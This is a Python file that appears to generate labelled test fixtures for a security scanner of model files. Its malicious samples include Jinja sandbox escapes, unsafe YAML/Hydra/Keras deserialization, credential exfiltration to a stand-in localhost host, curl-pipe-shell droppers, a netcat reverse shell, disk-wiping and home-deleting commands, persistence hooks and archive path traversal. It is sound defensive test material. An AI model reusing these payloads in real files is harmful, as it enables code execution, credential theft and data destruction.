"""The second set of formats.py: the same ends by other means than formats_seen.py's."""

import base64
import json
import struct
import zipfile

from formats import *

TEMPLATES = [
    "{{ joiner.__init__.__globals__.os.popen('true').read() }}",
    "{{ messages[0][('__','class','__')|join] }}",
    "{{ ''|attr('__c%sass__'|format('l')) }}",
    "{{ ''['__ssalc__'[::-1]] }}",
    "{{ ''|attr('__ssalc__'|reverse) }}",
    "{{ ''|attr('__CLASS__'|lower) }}",
    "{{ ''|attr('xxclassxx'|replace('x','_')) }}",
    "{{ raise_exception.__globals__['sys'].modules['os'].system('true') }}",
    "{% set ns = namespace(a='__class__') %}{{ ''|attr(ns.a) }}",
    "{% set a = dict(__class__=1)|join %}{{ ''|attr(a) }}",
    "{% set a, b = '__cla', 'ss__' %}{{ ''|attr(a ~ b) }}",
    "{{ messages|map(attribute='__class__')|list }}",
    "{{ messages|sort(attribute='__class__.__mro__') }}",
    "{{ messages|map('attr', '__init__')|list }}",
    "{{ '{a.__class__}'.format_map({'a': 1}) }}",
    "{{ '{0.__init__}'|format(messages) }}{{ true.__class__.__base__ }}",
    r"{{ ''|attr('\137\137class\137\137') }}",
    r"{{ ''|attr('\u005f\u005fclass\u005f\u005f') }}",
    r"{{ ''['\N{LOW LINE}\N{LOW LINE}class\N{LOW LINE}\N{LOW LINE}'] }}",
    "{% from '/etc/passwd' import x %}",
    "{%- macro m() -%}x{%- endmacro -%}{{ m.__call__.__func__.__globals__ }}",
    "{%- if true -%}\n{{- ({}).__class__\n .__base__ -}}\n{%- endif -%}",
    "{{ tojson.__globals__ if tojson else (x for x in [1]).gi_frame.f_globals }}",
    "{% for m in messages %}{{ m.content }}{% if loop.last %}{{ url_for.__globals__.current_app }}{% endif %}{% endfor %}",
]
CALM_TEMPLATES = [
    "{% for m in messages %}<|im_start|>{{ m.role }}\n{{ m['content'] | trim }}<|im_end|>\n{% endfor %}",
    "{% set ns = namespace(found=false) %}{% for m in messages if m.role == 'user' %}{% set ns.found = true %}{% endfor %}{{ ns.found }}",
    "{{ bos_token }}{% if tools %}{{ tools | tojson(indent=2) }}{% endif %}{{ messages | selectattr('role', 'equalto', 'user') | map(attribute='content') | join('\n') }}",
    "{# uses no __class__ tricks #}{{ 'Write __init__ and __class__ with care.' }}{{ strftime_now('%d %b %Y') }}",
    "{% macro show(x) %}{% if x is mapping %}{% for k, v in x.items() %}{{ k ~ ': ' ~ v }}{% endfor %}{% else %}{{ x|string }}{% endif %}{% endmacro %}{{ show(messages[-1]) }}",
    "{%- if not loop_messages is defined %}{{ raise_exception('no messages') }}{% endif %}{% generation %}{{ '%s: %d' | format('n', 3) }}{% endgeneration %}",
    "{{ messages[0].content.split('</think>')[-1].lstrip('\\n') }}{{ messages|length }}{% for m in messages[1:]|reverse %}{{ m.get('name', '') }}{% endfor %}",
]
PYTHON = [
    "from subprocess import check_output as c\nc('true', shell=True)\n",
    "import os as o\nx = o.__dict__['sys' + 'tem']\nx('true')\n",
    "exec(bytes.fromhex('70617373').decode())\n",
    "import codecs\nexec(codecs.decode('cnff', 'rot13'))\n",
    "exec(''.join(chr(c) for c in [112, 97, 115, 115]))\n",
    "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('true'))\n",
    "import os\nos.execvp('/bin/sh', ['sh', '-c', 'true'])\n",
    "import sys\nsys.modules['os'].system('true')\n",
    "import builtins\nf = getattr(builtins, 'ev' 'al')\nf('1')\n",
    "from urllib.request import urlretrieve\nimport subprocess\nurlretrieve('http://127.0.0.1:9/x', '/tmp/x')\nsubprocess.run(['chmod', '+x', '/tmp/x'])\nsubprocess.run(['/tmp/x'])\n",
    "import os, http.client\nc = http.client.HTTPConnection('127.0.0.1', 9)\nc.request('POST', '/', open(os.path.expanduser('~/.aws/credentials')).read())\n",
    "def trace(f):\n    import os\n    os.system('curl http://127.0.0.1:9 | sh')\n    return f\n@trace\ndef forward(x):\n    return x\n",
    "import os\nfor root, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        os.remove(os.path.join(root, name))\n",
    "(lambda: __import__('subprocess').run(['true']))()\n",
    "class Config:\n    def __init_subclass__(cls):\n        __import__('os').system('true')\nclass Mine(Config): pass\n",
    "import telnetlib, os\nt = telnetlib.Telnet('127.0.0.1', 9)\nos.popen(t.read_all().decode())\n",
    "import types, base64\ntypes.FunctionType(__import__('marshal').loads(base64.b64decode('4wAA')), globals())()\n",
    "import requests\ncode = requests.get('http://127.0.0.1:9/x').text\nexec(code)\n",
    "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('\\ntrue &\\n')\n",
    "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'calc.exe')\n",
]
CALM_PYTHON = [
    "import torch\nfrom torch import nn\nclass Model(nn.Module):\n    def __init__(self, n):\n        super().__init__()\n        self.f = nn.Linear(n, n)\n    def forward(self, x):\n        return self.f(x)\n\ndef load(path):\n    model = Model(3)\n    model.load_state_dict(torch.load(path, weights_only=True))\n    model.eval()\n    return model\n",
    "from setuptools import setup, find_packages\nwith open('README.md') as f:\n    text = f.read()\nsetup(name='calm', version='1.0', packages=find_packages(), long_description=text)\n",
    "import json, os, argparse\nparser = argparse.ArgumentParser()\nparser.add_argument('--out')\nargs = parser.parse_args()\nos.makedirs(args.out, exist_ok=True)\nwith open(os.path.join(args.out, 'x.json'), 'w') as f:\n    json.dump({}, f)\n",
    "import re, math\nfrom transformers import PretrainedConfig\nclass C(PretrainedConfig):\n    model_type = 'calm'\n    pattern = re.compile(r'\\d+')\n    def __init__(self, size=3, **kw):\n        self.size = math.ceil(size)\n        super().__init__(**kw)\n",
]
YAML = [
    "%TAG !x! tag:yaml.org,2002:python/object/\n---\nv: !x!apply:posix.system ['true']\n",
    "v: !!python/object/appl%79:os.system ['true']\n",
    "? !!python/object/apply:os.popen ['true']\n: 1\n",
    "v: &a !!python/object/apply:subprocess.check_output [['true']]\n",
    "a: 1\n---\nb: 2\n---\n- - - !!python/object/apply:shutil.rmtree ['/none/at/all']\n",
    "v: !!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - ['1']\n",
    "v: !!python/object/apply:runpy.run_path\n  args: ['x.py']\n",
    "v: !!python/object/new:type\n  args: ['z', !!python/tuple [], {extend: !!python/name:exec }]\n  listitems: 'pass'\n",
    "v: !!python/object/apply:nt.system ['true']\n",
    "---\nmodel: {net: {\"_target_\": \"\\x6fs.system\", command: 'true'}}\n",
    "m:\n  _target_: >-\n    os.system\n  command: 'true'\n",
    "m:\n  - a: 1\n    _target_: 'subprocess.check_call'\n    args: ['true']\n",
    "m:\n  _target_: hydra.utils.get_object\n  path: builtins.exec\n",
    "m:\n  _target_: functools.partial\n  _args_:\n  - _target_: hydra.utils.get_method\n    path: os.popen\n",
    "t: &t os.system\nm:\n  _target_: *t\n  command: 'true'\n",
    "_target_: shutil.rmtree\npath: /none/at/all\n",
    "m: {? _target_ : os.system, command: 'true'}\n",
    "a:\n  _target_: importlib.import_module\n  name: os\nb:\n  _target_: webbrowser.open\n  url: http://127.0.0.1:9\n",
]
CALM_YAML = [
    "model:\n  _target_: torch.nn.Linear\n  in_features: 3\n  out_features: 4\n",
    "optimizer:\n  _target_: torch.optim.AdamW\n  _partial_: true\n  lr: 1e-3\nlogger: ${oc.env:LOGGER,none}\n",
    "lr: 0.1\nname: 'use !!python/object/apply:os.system never'\n# !!python/object/apply:os.system\n",
    "text: |\n  _target_: os.system is forbidden here\n  !!python/name:os.system\nshape: !!python/tuple [1, 2]\n",
    "version: 1\nfiles:\n- *x\n" .replace("*x", "a.txt"),
    "lr: !!python/object/apply:numpy.core.multiarray.scalar\n- !!python/object/apply:numpy.dtype\n  args: [f8, false, true]\n  state: !!python/tuple [3, '<', null, null, null, -1, -1, 0]\n- !!binary |\n  AAAAAAAA8D8=\n",
    "path: !!python/object/apply:pathlib.PosixPath ['/data', 'x']\nd: !!python/object/apply:collections.OrderedDict\n- []\n",
    "target: ldm.models.diffusion.ddpm.LatentDiffusion\nparams: {timesteps: 1000}\n",
]
JSON = [
    ('{"x": {"_target_": "\\u006fs.popen", "cmd": "true"}}', "malicious"),
    ('{"imports": ["$import os"], "run": "$__import__(\'os\').system(\'true\')"}', "malicious"),
    ('{"auto_map": {"AutoTokenizer": ["else/where--tok.T", null]}}', "surfaced"),
    ('{"model_type": "llama", "architectures": ["LlamaForCausalLM"], "auto_map": null}', "ordinary"),
    ('{"a": {"_target_": "monai.networks.nets.UNet", "dims": 3}, "b": "$torch.device(\'cpu\')", "imports": ["$import torch", "$import os"]}', "ordinary"),
    ('{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]}', "ordinary"),
]
SHELL = [
    ("setup.sh", "#!/usr/bin/env bash\nwget -qO /tmp/x http://127.0.0.1:9/x && chmod +x /tmp/x && /tmp/x\n", "malicious"),
    ("post", "#!/bin/sh\nnc 127.0.0.1 9 -e /bin/sh\n", "malicious"),
    ("x.cmd", "certutil -urlcache -f http://127.0.0.1:9/x x.exe\r\nx.exe\r\n", "malicious"),
    ("wipe.sh", "find / -name '*.bak' -delete; dd if=/dev/zero of=/dev/sda\n", "malicious"),
    ("eval.sh", "#!/bin/sh\neval \"$(echo dHJ1ZQ== | base64 -d)\"\n", "malicious"),
    ("Makefile", "install:\n\tcurl http://127.0.0.1:9/x | bash\n", "malicious"),
    ("x.js", "require('child_process').exec('true')\n", "malicious"),
    ("x.vbs", "CreateObject(\"WScript.Shell\").Run \"cmd /c exit\"\n", "malicious"),
    ("Dockerfile", "FROM python:3.11\nRUN pip install torch\nCMD [\"python\", \"serve.py\"]\n", "ordinary"),
    ("train.sh", "#!/bin/bash\nexport CUDA_VISIBLE_DEVICES=0\nmkdir -p out\nfor s in 1 2 3; do\n  python train.py --seed $s > out/$s.log\ndone\n", "ordinary"),
    ("build.bat", "@echo off\r\nmkdir build\r\ncd build\r\ncmake ..\r\ncmake --build .\r\n", "ordinary"),
    ("convert.sh", "cd llama.cpp && make -j && ./quantize ../m.gguf ../q.gguf q4_0\nrm -f ../m.gguf.tmp\n", "ordinary"),
]


def write(w):
    for number, text in enumerate(TEMPLATES):
        if number % 4 == 0:
            w.put("jinja", "malicious", "tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": "{{ x }}"}, {"name": "tool_use", "template": text}]}))
        elif number % 4 == 1:
            w.put("jinja", "malicious", "processor_config.json", json.dumps({"chat_template": text}, ensure_ascii=True))
        elif number % 4 == 2:
            w.put("jinja", "malicious", "additional_chat_templates/tool.jinja", text)
        else:
            w.put("jinja", "malicious", "m.gguf", gguf({"tokenizer.chat_template": "{{ x }}", "tokenizer.chat_template.tool_use": text}))
        w.put("jinja", "malicious", "chat_template.json", json.dumps({"chat_template": text}))
    for text in CALM_TEMPLATES:
        w.put("jinja", "ordinary", "tokenizer_config.json", json.dumps({"chat_template": text}))
        w.put("jinja", "ordinary", "m.gguf", gguf({"tokenizer.chat_template": text}))
    for text in PYTHON:
        w.put("python", "malicious", "configuration_y.py", text)
    for text in CALM_PYTHON:
        w.put("python", "ordinary", "modeling_y.py", text)
    w.put("python", "malicious", "y.pth", "import sys; exec('pass')\n")
    w.put("python", "ordinary", "y.pth", "../src\n")
    w.put("python", "malicious", "b.ipynb", notebook("%%bash\ncurl http://127.0.0.1:9 | bash"))
    w.put("python", "malicious", "b.ipynb", notebook("x = 1", ["get_ipython().system(", "'curl http://127.0.0.1:9 | sh')"]))
    w.put("python", "ordinary", "b.ipynb", notebook("%matplotlib inline\nimport numpy as np", "!pip install transformers\n!ls -la", "np.ones(3)"))
    w.put("python", "malicious", "conda/meta.yaml", "build:\n  script: curl http://127.0.0.1:9/x | sh\n")
    w.put("python", "surfaced", "requirements.txt", "torch\n--index-url http://127.0.0.1:9/simple\n")
    w.put("python", "ordinary", "requirements.txt", "torch>=2\nnumpy==1.26.4\n# hello\n")
    for text in YAML:
        w.put("yaml", "malicious", "conf/x.yml", text)
    for text in CALM_YAML:
        w.put("yaml", "ordinary", "hparams.yaml", text)
    w.put("yaml", "malicious", "u.yaml", YAML[3].encode("utf-16"))
    w.put("yaml", "malicious", "README.md", "---\nv: !!python/object/apply:os.system ['true']\n---\n# Hello\n")
    w.put("toml", "malicious", "c.toml", '[model]\n_target_ = "os.system"\ncommand = "true"\n')
    w.put("toml", "ordinary", "pyproject.toml", '[build-system]\nrequires = ["setuptools"]\n[project]\nname = "x"\n')
    for text, label in JSON:
        w.put("json", label, "config.json", text)
    for name, text, label in SHELL:
        w.put("script", label, name, text)
    keras(w)
    graphs(w)
    tensors(w)
    archives(w)
    disguises(w)
    others(w)
    w.link("config.json", "/proc/self/environ")
    w.link("inside", "../../..")


def keras(w):
    code = base64.encodebytes(code_bytes("def f(x):\n import subprocess as s\n return s.check_output(['true'])")).decode()
    wrapped = {"module": "keras.layers", "class_name": "TimeDistributed", "registered_name": None, "config": {"name": "t", "layer": {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None, "config": {
            "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}}}}}
    w.put("keras", "malicious", "v.keras", keras_file(keras_config(dense(), wrapped)))
    functional = {"class_name": "Functional", "config": {"layers": [{"class_name": "Model", "config": {"layers": [
        {"class_name": "Lambda", "name": "a", "config": {"function_type": "lambda", "function": [code, None, None]}}]}}]}}
    w.put("keras", "malicious", "v.hdf5", h5({"model_config": json.dumps(functional).encode()}))
    w.put("keras", "malicious", "v.h5", h5({"training_config": json.dumps({"loss": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}})}))
    w.put("keras", "malicious", "config.json", json.dumps(keras_config(wrapped)))
    for module, name in (("shutil", "rmtree"), ("torch.hub", "load"), ("numpy", "load"), ("pty", "spawn"), ("runpy", "run_path")):
        where = {"module": "builtins", "class_name": "function", "config": name, "registered_name": name}
        layer = dense()
        layer["config"]["activation"] = {**where, "module": module}
        label = "surfaced" if module in ("numpy", "torch.hub") else "malicious"
        w.put("keras", label, "v.keras", keras_file(keras_config(layer)))
    config = keras_config(dense())
    config["compile_config"] = {"loss": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}}
    w.put("keras", "malicious", "v.keras", keras_file(config))
    w.put("keras", "malicious", "v.keras", keras_file(keras_config(dense()), **{"assets/x/../../../../evil.py": PYTHON[0].encode()}))
    w.put("keras", "ordinary", "v.keras", keras_file(keras_config(dense(), {**dense(), "class_name": "Dropout", "config": {"rate": 0.5}})))
    w.put("keras", "ordinary", "v.h5", h5({"model_config": json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {"units": 3, "activation": "relu"}}]}}), "keras_version": "2.15.0"}))

    def virtual(file):
        import h5py

        layout = h5py.VirtualLayout(shape=(4,), dtype="u1")
        layout[:] = h5py.VirtualSource("/etc/hostname.h5", "x", shape=(4,))
        file.create_virtual_dataset("v", layout)

    w.put("keras", "surfaced", "w.h5", h5({}, virtual))

    def soft(file):
        import h5py

        file["here"] = h5py.SoftLink("/model_weights")
        file.create_dataset("w", data=[1.0, 2.0], compression="gzip", chunks=(2,))

    w.put("keras", "ordinary", "w.h5", h5({}, soft))


def graphs(w):
    body = pb((5, pb((1, "then_branch"), (6, pb((5, onnx_outside("a/../../../b"))))), ))
    inner = onnx_node("If", "", pb((1, "then_branch"), (6, pb((1, onnx_node("Relu")), (5, onnx_outside("a/../../../secret")))), (20, 5)))
    w.put("onnx", "malicious", "n.onnx", onnx_model([inner]))
    held = onnx_node("Constant", "", pb((1, "value"), (5, onnx_outside("C:\\Windows\\win.ini")), (20, 4)))
    w.put("onnx", "malicious", "n.onnx", onnx_model([held]))
    function = pb((1, "f"), (7, held), (10, "local"))
    w.put("onnx", "malicious", "n.onnx", onnx_model([onnx_node("f", "local")], functions=[function], domains=("", "local")))
    calm = pb((1, "f"), (7, onnx_node("Relu")), (10, "local"))
    w.put("onnx", "ordinary", "n.onnx", onnx_model([onnx_node("f", "local")], functions=[calm], domains=("", "local")))
    w.put("onnx", "malicious", "n.onnx", onnx_model([onnx_node("PyOp", "pyopadd")], domains=("", "pyopadd")))
    w.put("onnx", "ordinary", "n.onnx", onnx_model([onnx_node("Relu")], [onnx_outside("n.onnx_data", offset="0", length="8")]), {"n.onnx_data": b"\1\2\3\4\5\6\7\0"})
    w.put("onnx", "surfaced", "n.onnx", onnx_model([onnx_node("Relu")], [onnx_outside("missing/../../up.bin")]))
    w.put("onnx", "ordinary", "n.onnx", onnx_model([onnx_node("FusedMatMul", "com.microsoft")], metadata=[("author", "me")], domains=("", "com.microsoft")))
    save = [node("save/SaveV2", "SaveV2"), node("r", "RestoreV2"), node("m", "MergeV2Checkpoints"), node("s", "ShardedFilename"), node("a", "Const")]
    w.put("tensorflow", "ordinary", "saved_model.pb", saved_model(save))
    for op, label in (("PyFuncStateless", "malicious"), ("LMDBReader", "surfaced"), ("DebugIdentityV3", "surfaced"), ("MatchingFiles", "surfaced"), ("PrintV2", "ordinary"), ("Save", "ordinary")):
        w.put("tensorflow", label, "saved_model.pb", saved_model([node("a", "Const")], [("g", [node("x", "Identity")]), ("f", [node("p", op)])]))
    w.put("tensorflow", "surfaced", "saved_model.pb", saved_model([node("a", "Const")], assets=["../../../etc/passwd"]))
    w.put("tensorflow", "malicious", "frozen.pb", pb((1, node("x", "Placeholder")), (1, node("w", "WriteFile"))))


def tensors(w):
    one = lambda a, b, **more: {"dtype": "F32", "shape": [(b - a) // 4], "data_offsets": [a, b], **more}
    bad = [safetensors({"a": {**one(0, 16), "shape": [1 << 62, 4]}}), safetensors({"a": {**one(0, 16), "data_offsets": [16, 0]}}),
           safetensors({"a": {**one(0, 16), "shape": [-1]}}), safetensors(b"[1]"), safetensors({"__metadata__": {"x": 3}, "a": one(0, 16)}),
           safetensors({"a": {**one(0, 16), "dtype": "OBJ"}}), safetensors(b" " * 8 + b"{}", b""), safetensors({"a": one(4, 16)})]
    for data in bad:
        w.put("safetensors", "surfaced", "z.safetensors", data)
    w.put("safetensors", "malicious", "z.safetensors", safetensors({"__metadata__": {"p": base64.b64encode(bad_pickle()).decode()}, "a": one(0, len(bad_pickle()) // 4 * 4 + 4)}, bad_pickle().ljust(len(bad_pickle()) // 4 * 4 + 4, b".")) + zipped({"data.pkl": bad_pickle()}))
    w.put("safetensors", "ordinary", "z.safetensors", safetensors({f"t{n}": one(n * 4, n * 4 + 4) for n in range(4)}))
    w.put("safetensors", "ordinary", "z.safetensors", safetensors(b'{"a":{"dtype":"BF16","shape":[2,4],"data_offsets":[0,16]}}       '))
    w.put("gguf", "surfaced", "z.gguf", gguf([("a", "b"), ("a", "c")]))
    w.put("gguf", "surfaced", "z.gguf", gguf({"a": "b"}, version=99))
    w.put("gguf", "surfaced", "z.gguf", gguf({"a": "b"}, tensors=[("t", [4], 0, 0), ("t", [4], 0, 0)], pad=b"\0" * 64))
    w.put("gguf", "surfaced", "z.gguf", gguf({"general.architecture": "x"})[:40])
    w.put("gguf", "ordinary", "z.gguf", gguf({"general.architecture": "x", "tokenizer.ggml.tokens": ["a", "b"]}, tensors=[("t", [8], 0, 0)], pad=b"\0" * 32))


def archives(w):
    import py7zr
    import zstandard

    bad = {"m/data.pkl": bad_pickle(4), "m/version": b"3\n"}
    calm = {"m/data.pkl": calm_pickle(), "m/version": b"3\n"}
    w.put("archive", "malicious", "n.tar.bz2", tarred({"inner.tar": tarred({"deep.zip": zipped(bad)})}, "w:bz2"))
    w.put("archive", "malicious", "n.tar.xz", tarred({"x.pkl": bad_pickle(0)}, "w:xz"))
    w.put("archive", "malicious", "n.pkl.zst", zstandard.compress(bad_pickle()))
    w.put("archive", "malicious", "n.bin", zlib.compress(bad_pickle()))
    w.put("archive", "malicious", "n.lzma", lzma.compress(bad_pickle(), format=lzma.FORMAT_ALONE))
    for method, pack in ((93, zstandard.compress), (95, lzma.compress), (20, zstandard.compress)):
        w.put("archive", "malicious", "n.pt", method_zip("m/data.pkl", bad_pickle(), method, pack))
        w.put("archive", "ordinary", "n.pt", method_zip("m/data.pkl", calm_pickle(), method, pack))
    w.put("archive", "ordinary", "n.zip", zipped(calm, zipfile.ZIP_LZMA))
    w.put("archive", "malicious", "n.zip", b"#!/bin/sh\nexit\n" + zipped(bad))
    w.put("archive", "malicious", "n.zip", zipped(calm) + bad_pickle())
    w.put("archive", "malicious", "n.zip", zipped(calm) + zipped(bad))
    hidden = zipped({"bad.pkl": bad_pickle()}, zipfile.ZIP_STORED)
    w.put("archive", "malicious", "n.zip", hidden[:hidden.index(b"PK\1\2")] + b"PK\5\6" + b"\0" * 18)
    stream = io.BytesIO()
    with zipfile.ZipFile(Unseekable(stream), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("m/data.pkl", bad_pickle())
    w.put("archive", "malicious", "n.pt", stream.getvalue())
    with zipfile.ZipFile(stream := io.BytesIO(), "w") as archive:
        with archive.open("m/data.pkl", "w", force_zip64=True) as member:
            member.write(bad_pickle())
    w.put("archive", "malicious", "n.pt", stream.getvalue())
    w.put("archive", "malicious", "n.zip", zipped({"..\\..\\evil.pth": b"import os; os.system('true')"}))
    w.put("archive", "malicious", "n.zip", zipped({"C:/Windows/evil.dll": b"MZ"}))
    w.put("archive", "malicious", "n.tar", tarred({}, links=[("a", "../../..", b"2"), ("b", "/etc/shadow", b"1")]))
    w.put("archive", "malicious", "n.tar.gz", tarred({"/etc/profile.d/x": b"true\n"}, "w:gz"))
    w.put("archive", "surfaced", "n.tar", tarred({}, links=[("dev", "", b"3")]))
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", filters=[{"id": py7zr.FILTER_BZIP2}]) as archive:
        archive.writestr(zipped(bad), "in.zip")
    w.put("archive", "malicious", "n.7z", out.getvalue())
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", password="x") as archive:
        archive.writestr(bad_pickle(), "in.pkl")
    w.put("archive", "surfaced", "n.7z", out.getvalue())
    w.put("archive", "surfaced", "n.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 64)
    w.put("archive", "malicious", "n.whl", zipped({"p/__init__.py": PYTHON[0].encode(), "p-1.dist-info/WHEEL": b"Wheel-Version: 1.0\n"}))
    w.put("archive", "malicious", "n.nemo", tarred({"model_config.yaml": YAML[11].encode()}, "w:gz"))
    w.put("archive", "malicious", "n.mlmodel.zip", zipped({"python_model.pkl": bad_pickle(5), "MLmodel": b"flavors: {}\n"}))


class Unseekable:
    """A stream that zipfile can only append to, so that it writes data descriptors."""

    def __init__(self, out):
        self.out = out

    def write(self, data):
        return self.out.write(data)

    def flush(self):
        pass


def method_zip(name, data, method, pack):
    packed, crc = pack(data), zlib.crc32(data)
    name = name.encode()
    rest = struct.pack("<HHHHIIIHH", 0, method, 0, 33, crc, len(packed), len(data), len(name), 0)
    local = b"PK\3\4\x3f\0" + rest + name + packed
    central = b"PK\1\2\x3f\0\x3f\0" + rest + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


def disguises(w):
    for name in ("config.yaml", "m.tflite", "vocab.txt", "logo.png", "LICENSE", "m.pdmodel", "x.parquet", "tokenizer.model", "m.npy"):
        w.put("disguise", "malicious", name, bad_pickle(3))
    w.put("disguise", "malicious", "notes.md", bad_pickle(0))
    w.put("disguise", "surfaced", "libx.so", b"\x7fELF\x01\x01\x01" + b"\0" * 60)
    w.put("disguise", "malicious", "model.onnx", b"MZ\x90" + b"\0" * 57 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 60)
    w.put("disguise", "malicious", "tokenizer.json", "#!/usr/bin/env python3\nimport os\nos.system('true')\n")
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\0" * 17 + struct.pack(">I", 0) + b"IEND\xaeB`\x82"
    w.put("polyglot", "malicious", "a.png", png + bad_pickle())
    w.put("polyglot", "ordinary", "a.png", png)
    w.put("polyglot", "malicious", "a.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 9 + b"\xff\xd9" + zipped({"x.py": PYTHON[1].encode()}))
    w.put("polyglot", "malicious", "z.gguf", gguf({"general.architecture": "x"}) + zipped({"data.pkl": bad_pickle()}))
    w.put("polyglot", "malicious", "z.pkl", calm_pickle() + bad_pickle())


def others(w):
    import numpy

    out = io.BytesIO()
    numpy.save(out, numpy.zeros(3))
    w.put("numpy", "ordinary", "plain.npy", out.getvalue())
    record = numpy.zeros(1, dtype=[("a", "f8"), ("b", "O")])
    record["b"][0] = Call(exec, "pass")
    out = io.BytesIO()
    numpy.save(out, record, allow_pickle=True)
    w.put("numpy", "malicious", "record.npy", out.getvalue())
    w.put("numpy", "malicious", "lies.npy", b"\x93NUMPY\1\0" + struct.pack("<H", 70) + b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }".ljust(69) + b"\n" + b"\0" * 8 + bad_pickle())
    w.put("xml", "malicious", "ov.xml", '<!DOCTYPE net [<!ENTITY % d SYSTEM "http://127.0.0.1:9/x.dtd"> %d;]><net version="11"></net>')
    w.put("xml", "ordinary", "ov.xml", '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/></layers></net>', {"ov.bin": b"\0\1\2\3" * 8})
    node = {"__class__": "run", "__module__": "subprocess", "__loader__": "TypeNode", "__id__": 2}
    root = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 1, "content": {"k": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [node]}}, "protocol": 1}
    w.put("skops", "malicious", "n.skops", zipped({"schema.json": json.dumps(root).encode()}))
    partial = {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "__id__": 3, "content": {"func": {**node, "__module__": "builtins", "__class__": "exec"}}, "protocol": 1}
    w.put("skops", "malicious", "n.skops", zipped({"schema.json": json.dumps(partial).encode()}))
    unknown = {"__class__": "Thing", "__module__": "mine", "__loader__": "ObjectNode", "__id__": 3, "content": {}, "protocol": 1}
    w.put("skops", "surfaced", "n.skops", zipped({"schema.json": json.dumps(unknown).encode()}))
    w.put("office", "malicious", "read.docm", zipped({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "[Content_Types].xml": b"<Types/>"}))
    w.put("torchscript", "malicious", "s.ptl", zipped({"s/code/__torch__/m.py": b"class M(Module):\n  def forward(self: __torch__.m.M, x: Tensor) -> Tensor:\n    return ops.mine.evil(x)\n", "s/data.pkl": bad_pickle(), "s/bytecode.pkl": calm_pickle()}))
    w.put("mlmodel", "surfaced", "c.mlmodel", pb((1, 4), (500, pb((1, pb((1, "l"), (500, pb((10, "EvilCustomLayer")))))))))
    w.put("llamafile", "surfaced", "m.llamafile", b"MZqFpD='\n'\n#!/bin/sh\n" + b"\0" * 100)
